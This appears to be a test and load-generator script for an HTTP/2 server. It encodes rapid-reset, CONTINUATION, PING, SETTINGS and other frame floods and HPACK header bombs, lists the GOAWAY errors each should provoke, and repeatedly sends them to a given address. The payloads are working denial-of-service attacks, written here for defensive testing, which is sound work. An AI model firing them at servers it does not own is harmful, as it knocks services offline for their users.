"""What THREATS 10 and 11 name, as bytes: each attack says what goes out after the preface, and how the server has to end it. As a program, it makes connections at a steady pace, each an attack or, to compare with, an
honest request of as many bytes:

    h2_attacks.py ADDRESS CERTIFICATE KEY attack|honest
"""

import itertools
import select
import sys
import time

import h2
import peers

CALM, PROTOCOL = h2.ENHANCE_YOUR_CALM, h2.PROTOCOL_ERROR
MALFORMED = h2.fields_of(more=[("Upper-Case", "1")])
EVERY_SECONDS = 0.02  # from one connection to the next


def streams():
    return itertools.count(1, 2)


def each(make, n):
    return b"".join(make(s) for s in itertools.islice(streams(), n))


# Resets: theirs, and ours that they provoke (CVE-2023-44487, CVE-2025-8671). (bytes, errors of GOAWAY that end it): the others are those by which the server's HTTP/2 library ends it at the first such frame, or at the hundred and first stream whose
# reset has not gone out yet.
RESETS = {
    "requests, each reset at once": (lambda n: each(lambda s: h2.request(s) + h2.rst_stream(s), n), {CALM}),
    "half requests, each reset at once": (lambda n: each(lambda s: h2.request(s, end=False, method="POST") + h2.rst_stream(s), n), {CALM}),
    "fifty requests, then fifty resets": (lambda n: b"".join(each_of(range(at, at + 100, 2), h2.request) + each_of(range(at, at + 100, 2), h2.rst_stream) for at in range(1, 2 * n, 100)), {CALM}),
    "a window that grows by nothing": (lambda n: each(lambda s: h2.request(s, end=False, method="POST") + h2.window_update(s, 0), n), {CALM, PROTOCOL}),
    "a window that overflows": (lambda n: each(lambda s: h2.request(s, end=False, method="POST") + h2.window_update(s, 0x7fffffff), n), {CALM, PROTOCOL}),
    "a body after the end": (lambda n: each(lambda s: h2.request(s) + h2.data(s, b"x"), n), {CALM, h2.STREAM_CLOSED, PROTOCOL}),
    "fields after the end": (lambda n: each(lambda s: h2.request(s) + h2.headers(s, [("a", "b")]), n), {CALM, h2.STREAM_CLOSED, PROTOCOL}),
    "malformed requests": (lambda n: each(lambda s: h2.headers(s, MALFORMED), n), {CALM, PROTOCOL}),
    "bodies that are longer than they say": (lambda n: each(lambda s: h2.request(s, end=False, method="POST", more=[("content-length", "1")]) + h2.data(s, b"xy"), n), {CALM, PROTOCOL}),
    "trailers that end nothing": (lambda n: each(lambda s: h2.request(s, end=False, method="POST") + h2.headers(s, [("a", "b")], end=False), n), {CALM, PROTOCOL}),
    "priorities of four bytes": (lambda n: each(lambda s: h2.request(s, end=False, method="POST") + h2.frame(h2.PRIORITY, 0, s, bytes(4)), n), {CALM, h2.FRAME_SIZE_ERROR}),
    "streams that depend on themselves": (lambda n: each(lambda s: h2.request(s, end=False, method="POST") + h2.priority(s, s), n), {CALM, PROTOCOL}),
    "more streams than are allowed": (lambda n: each(lambda s: h2.request(s, end=False, method="POST"), n), {CALM, PROTOCOL}),
}


def each_of(some, make):
    return b"".join(make(s) for s in some)


def open_stream(*frames):
    return h2.request(1, end=False, method="POST") + b"".join(frames)


def bomb(references):
    """A field of 4 KB goes into the table, and is then named by one byte each time (CVE-2016-6581)."""
    return h2.headers(1, h2.block(h2.fields_of()) + h2.field("a", "x" * 4000, 0x40) + h2.index(h2.FIRST_INDEX) * references)


LARGE_FRAME = h2.block([("x", "y" * 16000)])

# Floods: (bytes, errors of GOAWAY that end it).
FLOODS = {
    "CONTINUATION without end, large": (lambda n: h2.headers(1, h2.fields_of(), flags=0) + h2.continuation(1, LARGE_FRAME) * (n // 100), {CALM, PROTOCOL, h2.INTERNAL_ERROR}),
    "CONTINUATION without end, small": (lambda n: h2.headers(1, h2.fields_of(), flags=0) + h2.continuation(1, h2.field("a", "b")) * n, {CALM, PROTOCOL, h2.INTERNAL_ERROR}),
    "CONTINUATION without end, empty": (lambda n: h2.headers(1, h2.fields_of(), flags=0) + h2.continuation(1) * n, {CALM, PROTOCOL, h2.INTERNAL_ERROR}),
    "PING": (lambda n: h2.ping() * n, {CALM}),
    "PING answers that nobody asked for": (lambda n: h2.ping(h2.ACK) * n, {CALM, PROTOCOL}),
    "SETTINGS": (lambda n: h2.settings() * n, {CALM}),
    "SETTINGS of a thousand values": (lambda n: h2.settings(*[(h2.INITIAL_WINDOW_SIZE, i) for i in range(1000)]) * (n // 100), {CALM}),
    "SETTINGS acknowledgements": (lambda n: h2.settings_ack() * n, {CALM, PROTOCOL}),
    "empty DATA": (lambda n: open_stream(h2.data(1) * n), {CALM}),
    "DATA of padding alone": (lambda n: open_stream(h2.frame(h2.DATA, h2.PADDED, 1, b"\0") * n), {CALM}),
    "PRIORITY": (lambda n: each(lambda s: h2.priority(s + 2), n), {CALM}),
    "PRIORITY of one stream": (lambda n: h2.priority(1) * n, {CALM}),
    "WINDOW_UPDATE of the connection": (lambda n: h2.window_update(0, 1) * n, {CALM}),
    "WINDOW_UPDATE of a stream": (lambda n: open_stream(h2.window_update(1, 1) * n), {CALM}),
    "RST_STREAM of a closed stream": (lambda n: h2.request(1, end=False, method="POST") + h2.rst_stream(1) * n, {CALM, h2.STREAM_CLOSED}),
    "GOAWAY": (lambda n: h2.goaway() * n, {CALM}),
}

# What costs no more than its bytes, and may come as it likes.
CHEAP = {
    "frames that nobody knows": lambda n: h2.frame(0xfa, payload=b"x") * n,
    "a body on a stream that was reset": lambda n: h2.request(1, end=False, method="POST") + h2.rst_stream(1) + h2.data(1, b"x") * n,
    "fields of a stream that is over": lambda n: h2.request(3, end=False, method="POST") + h2.rst_stream(3) + h2.request(1) * n,
}

BOMBS = {
    "a hundred thousand references": lambda: bomb(100_000),
    "a hundred references": lambda: bomb(100),
    "ten thousand fields": lambda: h2.request(1, more=[("x", "y")] * 10_000),
    "a megabyte of one field": lambda: h2.request(1, more=[("x", "y" * (1 << 20))]),
    "ten thousand cookies": lambda: h2.request(1, more=[("cookie", "a=b")] * 10_000),
}

IN_TURN = [lambda: RESETS["requests, each reset at once"][0](400), lambda: FLOODS["CONTINUATION without end, small"][0](5000), lambda: FLOODS["PING"][0](3000), lambda: bomb(20_000),
           lambda: FLOODS["SETTINGS"][0](3000), lambda: RESETS["malformed requests"][0](400), lambda: FLOODS["empty DATA"][0](3000), lambda: FLOODS["PRIORITY of one stream"][0](3000),
           lambda: FLOODS["WINDOW_UPDATE of the connection"][0](3000)]


def main(address, certificate, key, kind):
    """At the same pace, whatever it does: what a connection and its bytes cost at all is in both. "." to stdout each time, until stdin ends."""
    context = peers.client_context(peers.Identity(certificate, key))
    attacks = itertools.cycle([attack() for attack in IN_TURN])
    honest = h2.request(1, end=False, method="POST") + h2.data(1, b"x" * h2.FRAME_MAX) * 3 + h2.data(1, end=True)
    due = time.monotonic()
    while True:
        with h2.dial(address, context) as client:
            if kind == "attack":
                client.say(next(attacks))
                client.until_closed() if not client.closed else None
            else:
                client.say(honest)
                client.until_over(1)
        print(".", end="", flush=True)
        now = time.monotonic()
        due = max(due + EVERY_SECONDS, now)
        if select.select([sys.stdin], [], [], due - now)[0]:
            return


if __name__ == "__main__":
    main(*sys.argv[1:])
